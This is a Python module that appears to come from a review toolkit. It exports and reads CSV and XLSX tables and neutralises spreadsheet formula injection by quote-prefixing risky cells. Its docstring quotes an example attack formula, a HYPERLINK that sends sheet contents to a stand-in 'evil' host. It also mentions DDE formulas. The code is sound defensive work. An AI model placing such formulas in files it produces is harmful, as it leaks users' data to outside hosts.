"""CSV and XLSX files people open in a spreadsheet program: no cell is a formula, every cell reads back.

A cell whose text begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is a formula to Excel and LibreOffice (``=HYPERLINK("http://evil/?"&A1)``
sends the sheet away when clicked; DDE formulas run programs). Cells are
neutralised the way OWASP recommends (CSV injection):

* CSV: such a cell is written with a leading ``'``, the spreadsheet
  convention for "this is text"; :func:`read_csv` takes it off again, so the
  text reads back exactly as it was (a cell that itself starts with quotes
  before such a character gets one more quote, so the rule is reversible).
  Plain numbers (``-0.5``, ``+3``) are not formulas and stay as they are.
* XLSX: such a cell is stored as a text cell with Excel's quote-prefix style:
  it shows and reads back as the text, and stays text when edited. Control
  characters XML cannot hold (pasted from a PDF, say) are written as OOXML's
  ``_xHHHH_`` escapes, which Excel reads, and :func:`read_xlsx` decodes.

:func:`read_csv` is strict where pandas is lenient: a row with fewer or more
fields than the header (a file cut short mid-row, a stray comma) is an error
naming the row, so a damaged sheet is never taken for a shorter one.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Sequence
from pathlib import Path

import pandas as pd

from .errors import ReviewkitError
from .io import read_bytes
from .redact import excerpt

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_RISKY = re.compile(r"^'*[=+\-@\t\r]")
_NUMBER = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$")
# A sheet of screening decisions is a few MB even for 100,000 records.
MAX_SHEET_BYTES = 256 * 2**20
# OOXML strings (ST_Xstring): characters XML 1.0 cannot hold are written _xHHHH_, and so is the "_" that
# starts text which would otherwise read as such an escape.
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
_LOOKS_ESCAPED = re.compile(r"_(?=x[0-9A-Fa-f]{4}_)")
_ESCAPE = re.compile(r"_x([0-9A-Fa-f]{4})_")


def _ooxml_escape(text: str) -> str:
    text = _LOOKS_ESCAPED.sub("_x005F_", text)
    return _XML_ILLEGAL.sub(lambda m: f"_x{ord(m.group(0)):04X}_", text)


def _ooxml_unescape(value: object) -> object:
    return _ESCAPE.sub(lambda m: chr(int(m.group(1), 16)), value) if isinstance(value, str) and "_x" in value \
        else value


def _needs_quote(text: str) -> bool:
    return bool(_RISKY.match(text)) and not _NUMBER.match(text)


def neutralise(value: object) -> object:
    """A CSV cell as written: text a spreadsheet would run as a formula gets a leading ``'``."""
    return "'" + value if isinstance(value, str) and _needs_quote(value) else value


def restore(text: str) -> str:
    """A CSV cell as read: the inverse of :func:`neutralise`."""
    return text[1:] if text.startswith("'") and _needs_quote(text[1:]) else text


def csv_text(frame: pd.DataFrame) -> str:
    """``frame`` as CSV text (no index, ``\\n`` line ends) with every text cell and header neutralised."""
    out = frame.map(neutralise)
    out.columns = [neutralise(c) for c in frame.columns]
    # The csv writer quotes a field holding a carriage return only when \r ends lines; such a cell
    # (rare: pasted text) is kept whole by quoting every field of that file.
    carriage = any(isinstance(v, str) and "\r" in v for v in [*out.columns, *out.to_numpy().ravel()])
    return out.to_csv(index=False, lineterminator="\n", quoting=csv.QUOTE_ALL if carriage else csv.QUOTE_MINIMAL)


def _xlsx_value(value: object) -> object:
    """A table cell as openpyxl writes it, the way ``DataFrame.to_excel`` converts it: missing values
    blank, numpy scalars as Python numbers, text OOXML-escaped (control characters)."""
    if isinstance(value, str):
        return _ooxml_escape(value)
    if value is None or value is pd.NA or value is pd.NaT or (isinstance(value, float) and value != value):
        return None
    if isinstance(value, pd.Timestamp):
        return value.to_pydatetime()
    if hasattr(value, "item") and not isinstance(value, (list, tuple, dict)):  # numpy scalars
        value = value.item()
        return None if isinstance(value, float) and value != value else value
    return value


def xlsx_bytes(frame: pd.DataFrame, sheet_name: str, *, widths: Sequence[float] = (),
               freeze: str | None = None) -> bytes:
    """``frame`` as an XLSX workbook of one sheet; cells a spreadsheet would run are quote-prefixed text.

    Written in openpyxl's write-only mode, rows streamed to the file: about three times faster than a
    workbook held in memory (``DataFrame.to_excel``), and its memory does not grow with the rows
    (100,000 screening rows: minutes and a gigabyte before).

    Parameters
    ----------
    frame : pandas.DataFrame
        The table; its column names are the header row (bold).
    sheet_name : str
        The worksheet's name.
    widths : sequence of float
        Column widths from column A on.
    freeze : str, optional
        The top-left cell of the unfrozen pane (e.g. ``"B2"``).

    Returns
    -------
    bytes
        The workbook.
    """
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    book = Workbook(write_only=True)
    ws = book.create_sheet(sheet_name)
    if freeze:
        ws.freeze_panes = freeze
    for number, width in enumerate(widths[: frame.shape[1]], 1):
        ws.column_dimensions[get_column_letter(number)].width = width
    bold = Font(bold=True)

    def text_cell(value: str, header: bool = False) -> WriteOnlyCell:
        cell = WriteOnlyCell(ws, value)
        if value.startswith(FORMULA_STARTS):
            cell.data_type = "s"  # openpyxl makes "=..." a formula; this keeps it text
            cell.quotePrefix = True
        if header:
            cell.font = bold
        return cell

    ws.append([text_cell(_ooxml_escape(str(c)), header=True) for c in frame.columns])
    for row in frame.itertuples(index=False, name=None):
        values = [_xlsx_value(v) for v in row]
        ws.append([text_cell(v) if isinstance(v, str) and v.startswith(FORMULA_STARTS) else v for v in values])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def read_csv(path: str | Path, what: str = "table") -> pd.DataFrame:
    """A CSV file people may have edited, as a table of strings, formulas' quotes taken off.

    The file is read without following a symbolic link. Not UTF-8, a quote never
    closed, a row whose number of fields differs from the header's, or a header
    that names a column twice is a ``ReviewkitError`` naming the file (and row).
    Blank lines are skipped; a header cell left empty is named ``Unnamed: <n>`` as pandas does.
    """
    path = Path(path)
    try:
        text = read_bytes(path, MAX_SHEET_BYTES).decode("utf-8-sig")
    except UnicodeDecodeError as exc:
        raise ReviewkitError(f"{path}: the {what} is not UTF-8 text (byte {exc.start}); save it as CSV UTF-8") from None
    rows = csv.reader(io.StringIO(text, newline=""), strict=True)
    try:
        header = next(rows, None)
        if header is None:
            raise ReviewkitError(f"{path}: the {what} is empty (no header row)")
        names = [restore(h) or f"Unnamed: {i}" for i, h in enumerate(header)]
        twice = sorted({n for n in names if names.count(n) > 1})
        if twice:
            raise ReviewkitError(f"{path}: the header names column {excerpt(twice[0])} twice")
        body = []
        for row in rows:
            if not row:
                continue
            if len(row) != len(names):
                line = rows.line_num
                raise ReviewkitError(
                    f"{path}, line {line}: {len(row)} fields where the header has {len(names)}"
                    + ("; the file looks cut short (saved while being written?)" if len(row) < len(names) else "")
                    + "; nothing was changed")
            body.append([restore(v) for v in row])
    except csv.Error as exc:
        raise ReviewkitError(f"{path}, line {rows.line_num}: not valid CSV ({exc}); the file looks cut short or "
                             "damaged; nothing was changed") from None
    return pd.DataFrame(body, columns=names, dtype=object)


def read_xlsx(path: str | Path, what: str = "table") -> pd.DataFrame:
    """The first sheet of an XLSX file as a table of strings (empty cells ""), never through a link."""
    path = Path(path)
    data = read_bytes(path, MAX_SHEET_BYTES)
    try:
        frame = pd.read_excel(io.BytesIO(data), dtype=str, keep_default_na=False, engine="openpyxl")
    except Exception as exc:  # a damaged workbook must name itself, whatever the zip or XML layer raised
        raise ReviewkitError(f"{path}: cannot read the {what} ({type(exc).__name__}: {excerpt(exc)}); "
                             "nothing was changed") from None
    frame.columns = [_ooxml_unescape(c) for c in frame.columns]
    return frame.map(_ooxml_unescape)
